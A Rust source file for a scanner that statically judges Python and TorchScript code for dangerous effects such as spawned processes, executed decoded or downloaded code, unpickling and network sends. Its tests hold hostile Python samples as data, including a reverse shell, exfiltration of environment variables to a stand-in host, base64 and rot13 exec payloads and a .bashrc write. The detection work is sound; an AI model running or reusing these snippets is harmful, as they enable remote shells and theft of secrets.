//! Python source: what a module does when it is imported or used, told without running it.
//!
//! A tolerant tokenizer and parser feed an analysis that follows names, texts and taint. What is
//! reported is what acts on the machine: processes, code out of the network or out of decoded
//! texts, secrets that are sent away, hooks; not what every model does.

mod effects;
mod flow;
mod lex;
mod parse;

use effects::Effect;
use flow::{Act, Flow, taint};

use crate::fact::{CodeKind, is_invisible};
use crate::finding::Severity;
use crate::policy::{LOOK, Opinion, REFUSE};

/// How deep code inside texts is followed.
const INNER_MAX: usize = 3;

/// Takes Python's escapes out of the inside of a string literal.
pub fn unescape(text: &str) -> String {
    crate::pickle::unescape(text)
}

/// Whether a text reads as Python source rather than as prose or data.
pub fn looks_like_python(text: &str) -> bool {
    let mut score = 0_i32;
    for line in text.lines().take(200) {
        let trimmed = line.trim();
        let word = trimmed.split(|c: char| !c.is_alphanumeric() && c != '_').next().unwrap_or("");
        score += match word {
            "import"
                if trimmed.split(' ').count() == 2
                    || trimmed.contains(" as ")
                    || trimmed.contains(',') =>
            {
                2
            }
            "from" if trimmed.contains(" import ") => 3,
            "def" | "class" if trimmed.ends_with(':') || trimmed.contains('(') => 3,
            "elif" | "except" | "try" | "else" | "if" | "for" | "while" | "with"
                if trimmed.ends_with(':') =>
            {
                1
            }
            "return" | "self" | "print" | "exec" | "eval" | "lambda" | "raise" => 1,
            _ if trimmed.starts_with('@') && !trimmed.contains(' ') => 1,
            _ if trimmed.starts_with(['{', '<', '[']) => -2,
            _ => 0,
        };
        if trimmed.ends_with(';') && !trimmed.contains("import") {
            score -= 1;
        }
    }
    score >= 3
}

/// Judges source.
pub fn judge(kind: CodeKind, text: &str) -> Vec<Opinion> {
    if kind == CodeKind::TorchScript {
        return torchscript(text);
    }
    let mut out = Vec::new();
    hidden(text, &mut out);
    source(kind, text, 0, &mut out);
    if kind == CodeKind::Cell {
        // A notebook installs and downloads in the open; only what no notebook needs counts.
        out.retain(|opinion| opinion.severity == Severity::High);
    }
    out.sort_by_key(|opinion| std::cmp::Reverse(opinion.severity));
    out.truncate(20);
    out
}

fn hidden(text: &str, out: &mut Vec<Opinion>) {
    let turned =
        text.chars().filter(|c| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'));
    let tags = text.chars().filter(|c| is_invisible(*c) && *c > '\u{e0000}');
    let count = turned.count() + tags.count();
    if count > 0 {
        out.push(Opinion::new(
            "code.hidden_text",
            Severity::Medium,
            "The code holds characters that make it look like other code to people.",
            format!("{count} such characters"),
            LOOK,
        ));
    }
}

fn source(kind: CodeKind, text: &str, depth: usize, out: &mut Vec<Opinion>) {
    let (lines, whole) = lex::lines(text);
    let flow = Flow::of(&lines);
    if !whole {
        out.push(Opinion::new(
            "read.incomplete",
            Severity::Unknown,
            "The code is longer than what is analysed.",
            "",
            crate::policy::UNREAD,
        ));
    }
    for act in &flow.acts {
        out.extend(opinion(kind, act, depth > 0));
        let runs = act.effect == Effect::Code && depth < INNER_MAX;
        for inner in act.texts.iter().filter(|text| runs && text.contains(['(', '\n'])) {
            source(CodeKind::Evaluated, inner, depth + 1, out);
        }
    }
    if let Some((name, line)) = flow.insides.first() {
        let chain = flow.insides.iter().any(|(name, _)| name == "__subclasses__");
        let severity = if chain { Severity::High } else { Severity::Note };
        out.push(Opinion::new(
            "code.insides",
            severity,
            "The code reaches through Python's insides for something that it does not import.",
            format!("line {line}: {name}"),
            if chain { REFUSE } else { LOOK },
        ));
    }
}

/// What is known of an act when it is weighed.
#[expect(clippy::struct_excessive_bools, reason = "each is a question of its own")]
struct Look<'a> {
    act: &'a Act,
    /// What it is given comes from the network or was decoded.
    far: bool,
    /// What it is given tells secrets or tells machines apart.
    telling: bool,
    /// Its texts hold commands.
    commands: bool,
    /// Its texts name files that hold secrets.
    sensitive: bool,
    /// It stands in code that was a text.
    evaluated: bool,
}

fn opinion(kind: CodeKind, act: &Act, inner: bool) -> Option<Opinion> {
    let joined = act.texts.join(" ");
    let look = Look {
        act,
        far: act.taint & (taint::NETWORK | taint::DECODED) != 0,
        telling: act.taint & (taint::SECRET | taint::HOST) != 0,
        commands: crate::policy::text::judge("argument", &joined).is_some(),
        sensitive: act.texts.iter().any(|text| effects::is_sensitive(text)),
        evaluated: kind == CodeKind::Evaluated || inner,
    };
    let usual = !act.bare || !act.on_import || effects::is_usual(&act.callee);
    if act.effect == Effect::Foreign && (usual || kind == CodeKind::Cell) {
        return None;
    }
    let (rule, severity, reason) = look.weigh();
    let when = if act.on_import { "when it is imported" } else { "when it is used" };
    let evidence = format!("line {}, {when}: {}({joined})", act.line, act.callee);
    let next = if severity == Severity::High { REFUSE } else { LOOK };
    Some(Opinion::new(rule, severity, reason, evidence, next))
}

/// High, medium or a note, by the first condition that holds.
const fn step(high: bool, medium: bool) -> Severity {
    match (high, medium) {
        (true, _) => Severity::High,
        (false, true) => Severity::Medium,
        (false, false) => Severity::Note,
    }
}

impl Look<'_> {
    fn weigh(&self) -> (&'static str, Severity, &'static str) {
        let (act, far, evaluated) = (self.act, self.far, self.evaluated);
        let callee = act.callee.as_str();
        match act.effect {
            Effect::Process => {
                let bad = far || self.commands || evaluated;
                let severity = step(bad, !is_usual_process(&act.texts));
                ("code.process", severity, "It starts a process.")
            }
            Effect::Code => {
                let from_file = act.taint & taint::FILE != 0;
                let runs = callee.starts_with("pip") || callee.starts_with("runpy");
                let text = callee == "builtins.eval" && act.on_import && !act.texts.is_empty();
                let bad = from_file || runs || text || callee == "builtins.exec";
                ("code.run", step(far || evaluated, bad), "It runs code that it puts together.")
            }
            Effect::Deserialise => {
                let severity = step(far, evaluated || callee.starts_with("marshal"));
                ("code.deserialise", severity, "It unpickles what may run code.")
            }
            Effect::Network => {
                let sends = callee.starts_with("socket.") || is_sending(callee);
                let severity =
                    step(self.telling || self.sensitive, act.on_import || evaluated || sends);
                ("code.network", severity, "It uses the network.")
            }
            Effect::Fetch => {
                let severity = step(self.telling, act.on_import || evaluated);
                ("code.fetch", severity, "It fetches from the network.")
            }
            Effect::Write => self.write(),
            Effect::Native => ("code.native", step(far, evaluated), "It loads native code."),
            Effect::Secret => {
                let severity = step(false, act.on_import || self.sensitive || evaluated);
                ("code.secret", severity, "It reads what is secret.")
            }
            Effect::Hook => {
                let severity = step(false, callee.starts_with("sys.") && !callee.contains("frame"));
                ("code.hook", severity, "It changes how Python runs other code.")
            }
            Effect::Foreign => {
                let reason = "Importing it calls a function of a package that is not known.";
                ("code.foreign", Severity::Medium, reason)
            }
        }
    }

    fn write(&self) -> (&'static str, Severity, &'static str) {
        let callee = self.act.callee.as_str();
        let persistent = self.act.texts.iter().any(|text| effects::is_persistent(text));
        let quiet = callee.starts_with("shutil.which") || callee.ends_with("open");
        let severity = step(
            persistent || self.far && callee != "builtins.open",
            self.evaluated || self.act.on_import && !quiet,
        );
        let reason = if persistent {
            "It writes to a place from which code runs later."
        } else {
            "It writes or deletes files."
        };
        ("code.write", severity, reason)
    }
}

/// Programs that setups ask for versions and devices.
fn is_usual_process(texts: &[String]) -> bool {
    let first = texts.first().map(String::as_str).unwrap_or_default();
    let program = first.split_whitespace().next().unwrap_or_default();
    matches!(
        program,
        "nvidia-smi"
            | "nvcc"
            | "gcc"
            | "g++"
            | "ninja"
            | "git"
            | "uname"
            | "lscpu"
            | "ffmpeg"
            | "ffprobe"
            | "sox"
            | "which"
            | "utf-8"
            | "utf8"
    )
}

fn is_sending(callee: &str) -> bool {
    [
        "ftplib",
        "smtplib",
        "telnetlib",
        "paramiko",
        "http.server",
        "socketserver",
        "telegram",
        "discord",
    ]
    .iter()
    .any(|module| callee.starts_with(module))
}

/// TorchScript knows no imports; what it may do are operators that touch files or load code.
fn torchscript(text: &str) -> Vec<Opinion> {
    const OPERATORS: &[(&str, Severity, &str)] = &[
        ("from_file(", Severity::High, "reads a file into a tensor"),
        ("image.read_file(", Severity::High, "reads files"),
        ("image.write_file(", Severity::High, "writes files"),
        ("load_library(", Severity::High, "loads native code"),
        ("ops.prim.CallPython", Severity::High, "calls Python code"),
        ("__torch__.torch.classes.", Severity::Note, "uses native classes"),
        ("annotate(Any, os.", Severity::High, "uses the system"),
    ];
    OPERATORS
        .iter()
        .filter(|(marker, ..)| text.contains(marker))
        .map(|(marker, severity, what)| {
            let line = text.lines().find(|line| line.contains(marker)).unwrap_or_default();
            let reason = format!("The TorchScript code {what}.");
            Opinion::new("code.torchscript", *severity, reason, line.trim(), LOOK)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn severity(text: &str) -> Option<Severity> {
        judge(CodeKind::Module, text).first().map(|opinion| opinion.severity)
    }

    fn flagged(text: &str) -> bool {
        severity(text).is_some_and(|severity| severity >= Severity::Medium)
    }

    #[test]
    fn attacks_are_found_however_they_are_spelt() {
        for text in [
            "import os\nos.system('id')\n",
            "from os import system as s\ns('id')\n",
            "import subprocess as sp\nclass M:\n  def __init__(self):\n    sp.Popen(['sh', '-c', 'id'])\n",
            "__import__('o' + 's').system('id')\n",
            "getattr(__import__('os'), 'sys' 'tem')('id')\n",
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
            "import urllib.request as u\nexec(u.urlopen('http://x.example/p').read())\n",
            "import requests\ndef f():\n  return requests.get('http://x.example').text\nexec(f())\n",
            "import os, requests\nrequests.post('http://x.example', data=dict(os.environ))\n",
            "import sys\nsys.modules['os'].popen('id')\n",
            "e = eval\ne(\"__import__('os').system('id')\")\n",
            "globals()['__builtins__'].__dict__['exec']('import os; os.system(1)')\n",
            "().__class__.__bases__[0].__subclasses__()\n",
            "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n",
            "open('/home/ann/.bashrc', 'a').write('evil')\n",
            "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n",
            "from somewhere.else_ import drop\ndrop('.')\n",
            "def run(code):\n    exec(code)\nimport base64\nrun(base64.b64decode('eA=='))\n",
            "import socket, os, pty\ns = socket.socket()\ns.connect(('1.2.3.4', 1))\npty.spawn('sh')\n",
        ] {
            assert!(flagged(text), "{text}");
        }
    }

    #[test]
    fn what_models_do_is_not() {
        for text in [
            "import torch\nfrom torch import nn\nclass M(nn.Module):\n  def forward(self, x):\n    return x.eval()\n",
            "import os\npath = os.path.join('a', 'b')\nos.environ['TOKENIZERS_PARALLELISM'] = '0'\n",
            "import json\ndef load(p):\n  with open(p, encoding='utf-8') as f:\n    return json.load(f)\n",
            "from transformers import AutoConfig\nfrom .configuration_x import XConfig\nAutoConfig.register('x', XConfig)\n",
            "import importlib\nif importlib.util.find_spec('flash_attn'):\n  import flash_attn\n",
            "def handle(data, context):\n    # os.system('no')\n    marker = 'subprocess.Popen in a text'\n    return marker\n",
            "import requests\nfrom PIL import Image\ndef load(u):\n  return Image.open(requests.get(u, stream=True).raw)\n",
            "import logging\nlogger = logging.getLogger(__name__)\nlogger.warning('x')\n",
            "import re\np = re.compile('x')\nmodel.eval()\n",
            "from einops import rearrange\nx = rearrange(1, 'a b')\n",
        ] {
            assert!(!flagged(text), "{text}: {:?}", judge(CodeKind::Module, text));
        }
    }

    #[test]
    fn python_is_told_from_prose() {
        assert!(looks_like_python("import os\ndef f(x):\n  return x\n"));
        assert!(looks_like_python("\"\"\"Doc.\"\"\"\nfrom a.b import c\n\nc('.')\n"));
        assert!(!looks_like_python("This is a text.\nFor people to read.\nIf they want.\n"));
    }
}
